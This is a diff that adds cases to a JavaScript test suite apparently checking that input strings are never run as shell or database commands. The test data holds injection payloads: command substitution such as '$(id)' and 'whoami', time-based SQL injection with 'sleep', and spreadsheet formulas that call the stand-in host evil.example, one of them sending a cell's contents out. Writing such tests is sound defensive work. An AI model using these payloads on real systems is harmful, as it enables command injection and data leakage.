@@ -299,6 +299,10 @@ describe('what is written as no command is, by anybody’s shell or database', (
 
   test.each([
     '+----+\n| id | name',
+    '+----+----+\n| id | a  |\nwhoami',
+    '1 and sleep(9 div 1)',
+    '=HYPERLINK("#a",WEBSERVICE("http://evil.example"))',
+    'a | stats count | eval b="%@$(id)"',
     '1 | eval $(id)',
     'sleep(9)',
     '=HYPERLINK("http://evil.example/?"&A1,"x")',
